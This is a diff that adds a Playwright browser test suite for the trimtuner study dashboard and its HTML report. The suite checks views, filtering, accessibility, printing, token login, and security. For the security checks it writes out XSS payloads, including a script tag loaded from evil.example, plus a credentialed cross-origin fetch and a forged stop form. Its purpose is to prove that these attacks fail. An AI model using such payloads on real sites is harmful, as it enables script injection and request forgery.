@@ -1,0 +1,359 @@
+"""Page and report in a real browser, of studies that really ran."""
+
+import json
+import sys
+import time
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+
+from benchmarks.browser import browser, dashboard, why_no_browser
+from trimtuner.jobs.studies import JobStudy
+from trimtuner.views.catalogue import VIEWS
+from waiting import PATIENCE_SECONDS
+from written_jobs import start, trimtuner, write_job
+
+pytestmark = [
+    pytest.mark.skipif(why_no_browser() is not None, reason=str(why_no_browser())),
+    pytest.mark.xdist_group("browser"),
+]
+TOKEN = "a-token-that-nobody-guesses"  # noqa: S105
+HOSTILE = "<script>window.canary = 1; alert(1)</script><img src=x onerror='window.canary = 2; alert(2)'>"
+
+HOSTILE_TRAIN = f"""
+import json
+print({HOSTILE!r})
+print("::metric " + json.dumps({{"accuracy": 0.5, "fraction": 1.0}}), flush=True)
+print("</pre></td></table><script src=//evil.example/x.js></script>")
+"""
+
+HOSTILE_JOB = f"""
+name: hostile
+goal: {{maximize: accuracy}}
+budget: {{money: 5 USD, trials: 3}}
+data: {{fractions: [0.5, 1]}}
+parameters:
+  x: {{values: ["plain", {json.dumps(HOSTILE)}, "'\\"><b>bold</b>"]}}
+cloud:
+  vms:
+    plain: {{vcpus: 1, memory_gib: 2, price_per_hour: 0.36}}
+run: {{command: ["{sys.executable}", train.py, "{{x}}"], timeout: 20s}}
+engine: {{type: local}}
+search: {{method: random, seed: 1}}
+"""
+
+EVIL_NAMES = [
+    "--host-resolver-rules=MAP *.example 127.0.0.1",  # as whoever owns a name may answer for it
+    "--disable-features=LocalNetworkAccessChecks",  # this browser's own guard; others have none
+]
+READ = """addresses => Promise.all(addresses.map(address => fetch(address, {credentials: "include"}).then(
+    async answer => `${answer.status} ${await answer.text()}`, String)))"""
+SEND = """([address, token]) => {
+    document.body.innerHTML = "<form method=post><input name=form_token></form>";
+    const form = document.forms[0];
+    form.action = address;
+    form.form_token.value = token;
+    form.submit();
+}"""
+
+
+@pytest.fixture(scope="module")
+def running():
+    with browser(*EVIL_NAMES) as found:
+        yield found
+
+
+@pytest.fixture(scope="module")
+def job(tmp_path_factory):
+    path = write_job(tmp_path_factory.mktemp("study"), trials=10, fail="2", method="trimtuner-dt", nap=0)
+    trimtuner("run", path, "-q")
+    return path
+
+
+@pytest.fixture(scope="module")
+def address(job):
+    with dashboard(job) as found:
+        yield found
+
+
+@pytest.fixture
+def page(running):
+    """A page that fails the test if any script of it goes wrong, or opens a dialogue."""
+    context = running.new_context(viewport={"width": 1000, "height": 900})
+    context.set_default_timeout(1000 * PATIENCE_SECONDS)
+    opened = context.new_page()
+    wrong = []
+    opened.on("pageerror", lambda error: wrong.append(str(error)))
+    opened.on("dialog", lambda one: (wrong.append(f"dialogue: {one.message}"), one.dismiss()))
+    yield opened
+    context.close()
+    assert wrong == []
+
+
+def until(page, claim):
+    """The page's policy forbids the evaluation that playwright's own waiting needs."""
+    deadline = time.monotonic() + PATIENCE_SECONDS
+    while not page.evaluate(claim):
+        assert time.monotonic() < deadline, f"in vain: {claim}"
+        page.wait_for_timeout(30)
+
+
+def opened(page, address):
+    page.goto(address)
+    until(page, "!document.querySelector('.stale')")
+    return page
+
+
+def numbers(page):
+    shown = page.locator("#trials tr[data-trial]:visible")
+    return [int(number) for number in shown.evaluate_all("rows => rows.map(row => row.dataset.trial)")]
+
+
+def body_scrolls_sideways(page):
+    return page.evaluate("document.documentElement.scrollWidth > window.innerWidth")
+
+
+def test_every_view_of_a_real_study_is_drawn(page, address):
+    opened(page, address)
+    for view in VIEWS:
+        section = page.locator(f"#{view.name}")
+        assert section.locator("h2").inner_text() == view.title
+        assert len(section.inner_text()) > len(view.title) + 20
+    for name in ("spend", "progress", "tradeoff", "curves", "machines", "timeline", "importance", "trust"):
+        assert page.locator(f"#{name} svg.chart").count() >= 1
+    assert page.locator("#state").inner_text() == "no run at work"
+
+
+def test_a_point_is_picked_by_a_click(page, address):
+    opened(page, address)
+    page.locator("#tradeoff path.recommended[data-pick]").click()
+    told = page.locator("#tradeoff .picked").inner_text()
+    assert told.startswith("recommended: ")
+    assert "vm_type=" in told
+    assert page.locator("#tradeoff .is-picked").count() == 1
+
+
+def test_points_are_picked_by_the_keyboard(page, address):
+    opened(page, address)
+    page.locator("#tradeoff .pickable").focus()
+    told = []
+    for key in ("Home", "ArrowRight", "ArrowRight", "ArrowLeft", "End"):
+        page.keyboard.press(key)
+        told.append(page.locator("#tradeoff .picked").inner_text())
+    assert told[1] == told[3]
+    assert len(set(told)) == 4
+    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
+    assert outline == "solid"
+
+
+def test_trials_are_filtered_by_words(page, address):
+    opened(page, address)
+    page.fill("[data-filter]", "exit")
+    until(page, "document.querySelector('[data-count]').textContent === '1 of 10 trials'")
+    assert numbers(page) == [2]
+    page.fill("[data-filter]", "vm_type=small ok")
+    until(page, "/^[0-9] of 10/.test(document.querySelector('[data-count]').textContent)")
+    page.fill("[data-filter]", "")
+    until(page, "document.querySelector('[data-count]').textContent === ''")
+    assert numbers(page) == list(range(9, -1, -1))
+
+
+def test_trials_are_sorted_by_a_column_and_back(page, address):
+    opened(page, address)
+    head = page.locator("#trials th", has_text="cost")
+    head.locator("button").focus()
+    page.keyboard.press("Enter")
+    assert head.get_attribute("aria-sort") == "ascending"
+    value = "rows => rows.map(row => Number(row.cells[3].dataset.value))"
+    costs = page.locator("#trials tr[data-trial]").evaluate_all(value)
+    assert costs == sorted(costs)
+    page.keyboard.press("Enter")
+    assert page.locator("#trials tr[data-trial]").evaluate_all(value) == sorted(costs, reverse=True)
+
+
+def test_a_trial_opens_to_its_metrics_and_its_log_by_the_keyboard(page, address):
+    opened(page, address)
+    page.locator("#trials tr[data-trial='0']").focus()
+    page.keyboard.press("Enter")
+    detail = page.locator("#trials tr[data-trial='0'] + tr.detail")
+    detail.locator("pre.log", has_text="::metric").wait_for()
+    assert "accuracy" in detail.inner_text()
+    assert page.locator("#trials tr[data-trial='0']").get_attribute("aria-expanded") == "true"
+    page.keyboard.press("Enter")
+    assert not detail.is_visible()
+
+
+def test_the_page_follows_a_run_without_being_loaded_again(page, tmp_path):
+    path = write_job(tmp_path, trials=6, method="random", nap=0.5, fractions=[0.5, 1])
+    with dashboard(path) as address:
+        page.goto(address)
+        page.locator("#state", has_text="start the study with: trimtuner run").wait_for()
+        page.evaluate("window.mine = 'the same page'")
+        run = start("run", path, "-q")
+        try:
+            until(page, "document.querySelectorAll('#trials tr[data-trial]').length >= 2")
+            page.fill("[data-filter]", "small")
+            page.locator("[data-filter]").focus()
+            seen = page.locator("#trials tr[data-trial]").count()
+            until(page, f"document.querySelectorAll('#trials tr[data-trial]').length > {seen}")
+            assert page.input_value("[data-filter]") == "small"
+            assert page.evaluate("document.activeElement.matches('[data-filter]')")
+            assert run.wait(PATIENCE_SECONDS) == 0
+        finally:
+            run.poll() is None and run.kill()
+        until(page, "document.querySelectorAll('#trials tr[data-trial]').length === 6")
+        until(page, "document.querySelector('#spend dl').textContent.includes('trials ended6')")
+        until(page, "document.querySelectorAll('#timeline rect.bar.done').length === 6 + 1")  # and that of the legend
+        assert page.evaluate("window.mine") == "the same page"
+        assert len(json.loads(trimtuner("trials", path, "--json").stdout)) == 6
+
+
+def test_hostile_names_values_and_logs_run_no_script_on_the_page_or_in_the_report(page, tmp_path):
+    (tmp_path / "train.py").write_text(HOSTILE_TRAIN)
+    path = tmp_path / "job.yaml"
+    path.write_text(HOSTILE_JOB)
+    trimtuner("run", path, "-q")
+    trimtuner("report", path, "-o", tmp_path / "report.html")
+    asked = []
+    page.on("request", lambda request: asked.append(request.url))
+    with dashboard(path) as address:
+        for shown in (address, (tmp_path / "report.html").as_uri()):
+            page.goto(shown)
+            until(page, "!document.querySelector('.stale')")
+            for number in range(3):
+                page.locator(f"#trials tr[data-trial='{number}']").click()
+                log = page.locator(f"#trials tr[data-trial='{number}'] + tr pre.log", has_text="<script>window.canary")
+                log.wait_for()
+            assert page.evaluate("window.canary") is None
+            assert page.locator("main img, main script, main b").count() == 0
+            assert (
+                "<script>window.canary" in page.locator("#answer").inner_text() + page.locator("#trials").inner_text()
+            )
+    assert not [url for url in asked if "evil" in url]
+
+
+def test_without_the_token_the_browser_is_refused_and_with_it_the_page_works(page, job):
+    with dashboard(job, "--token", TOKEN) as address:
+        base = address.split("/login")[0]
+        assert page.goto(base).status == 401
+        assert "quick" not in page.content()
+        assert page.goto(f"{base}/study/0").status == 401
+        page.goto(address)
+        page.locator("#trials tr[data-trial]").first.wait_for()
+        assert TOKEN not in page.url
+        assert page.evaluate("document.cookie") == ""
+        assert page.locator("h1").inner_text() == "quick"
+
+
+@pytest.mark.parametrize("words", [["--allow-stop"], ["--allow-stop", "--no-token"]], ids=" ".join)
+def test_a_page_elsewhere_reads_nothing_and_stops_nothing_under_whatever_name(page, job, words):
+    """In the browser of somebody who is looking at the page, with the token and without."""
+    page.route("**/evil", lambda route: route.fulfill(body="<body>", content_type="text/html"))
+    view = JobStudy.at(job).open_to_read()[1]
+    before = view.version()
+    paths = ["/", "/study/0", "/study/0/state", "/study/0/log/0", "/study/0/trial/0", "/login", "/static/live.js"]
+    with dashboard(job, *words) as address:
+        page.goto(address)
+        form_token = page.locator("[name=form_token]").get_attribute("value")  # even if it had been found out
+        port = urlsplit(address).port
+        own = f"http://localhost:{port}"
+        for name in ("evil.example", "a{b.evil.example"):
+            page.goto(f"http://{name}:{port}/evil")  # and from now on the name leads to us
+            for answer in page.evaluate(READ, paths):
+                assert answer.startswith("403 this page does not answer to the name")
+            assert _status_of_form(page, f"http://{name}:{port}/study/0/stop", form_token) == 403
+            page.goto(f"http://{name}:8000/evil")
+            assert set(page.evaluate(READ, [own + path for path in paths])) == {"TypeError: Failed to fetch"}
+            assert _status_of_form(page, f"{own}/study/0/stop", form_token) in (401, 403)
+    assert (view.version(), view.stop_requested(before)) == (before, False)
+
+
+def _status_of_form(page, address, token):
+    with page.expect_navigation() as sent:
+        page.evaluate(SEND, [address, token])
+    return sent.value.status
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_the_page_has_the_colours_that_its_reader_prefers(running, address, scheme):
+    context = running.new_context(color_scheme=scheme)
+    page = context.new_page()
+    page.goto(address)
+    paper = page.evaluate("getComputedStyle(document.body).backgroundColor")
+    context.close()
+    assert paper == {"light": "rgb(255, 255, 255)", "dark": "rgb(20, 24, 29)"}[scheme]
+
+
+@pytest.fixture(scope="module")
+def report(job, tmp_path_factory):
+    path = tmp_path_factory.mktemp("report") / "report.html"
+    trimtuner("report", job, "-o", path)
+    return path
+
+
+@pytest.mark.parametrize("width", [390, 1000])
+def test_neither_page_nor_report_scrolls_sideways(page, address, report, width):
+    page.set_viewport_size({"width": width, "height": 844})
+    opened(page, address)
+    assert not body_scrolls_sideways(page)
+    page.goto(report.as_uri())
+    page.locator("#trials tr[data-trial='0']").click()
+    assert not body_scrolls_sideways(page)
+
+
+def test_on_a_phone_the_letters_of_a_chart_keep_their_size(page, address):
+    page.set_viewport_size({"width": 390, "height": 844})
+    opened(page, address)
+    size = page.evaluate("document.querySelector('#tradeoff svg.chart text').getBoundingClientRect().height")
+    assert size >= 11
+
+
+def test_the_report_works_by_itself(page, report):
+    asked = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.goto(report.as_uri())
+    page.locator("#tradeoff .pickable").focus()
+    page.keyboard.press("End")
+    assert "vm_type=" in page.locator("#tradeoff .picked").inner_text()
+    page.fill("[data-filter]", "exit")
+    page.locator("[data-count]", has_text="1 of 10 trials").wait_for()
+    page.locator("#trials tr[data-trial='2']").click()
+    assert page.locator("#trials tr[data-trial='2'] + tr").is_visible()
+    page.fill("[data-filter]", "")
+    page.locator("#trials tr[data-trial='0']").click()
+    page.locator("#trials tr[data-trial='0'] + tr pre.log", has_text="::metric").wait_for()
+    assert asked == [report.as_uri()]
+
+
+def test_the_report_fits_its_paper_and_shows_there_what_is_folded(page, report, tmp_path):
+    page.set_viewport_size({"width": 680, "height": 900})
+    page.goto(report.as_uri())
+    page.emulate_media(media="print")
+    assert not body_scrolls_sideways(page)
+    assert page.locator("#progress details table").first.is_visible()
+    assert not page.locator("nav").is_visible()
+    written = Path(tmp_path / "report.pdf")
+    page.pdf(path=written, format="A4")
+    assert written.read_bytes().startswith(b"%PDF")
+
+
+def test_several_studies_are_a_list_that_leads_to_each(page, job, tmp_path):
+    other = write_job(tmp_path)
+    with dashboard(job, other) as address:
+        page.goto(address)
+        assert page.locator("#studies tbody tr").count() == 2
+        page.locator("#studies a").first.click()
+        page.locator("#trials tr[data-trial]").first.wait_for()
+        page.locator("a", has_text="all studies").click()
+        page.locator("#studies", has_text="not begun").wait_for()
+
+
+def test_the_button_asks_the_study_to_stop(page, tmp_path):
+    path = write_job(tmp_path, trials=4, method="random", nap=0)
+    trimtuner("run", path, "-q")
+    with dashboard(path, "--allow-stop") as address:
+        page.goto(address)
+        page.locator("#trials tr[data-trial]").first.wait_for()
+        page.locator("form[data-stop] button").click()
+        page.locator("form[data-stop] [role=status]", has_text="asked to start no more trials").wait_for()
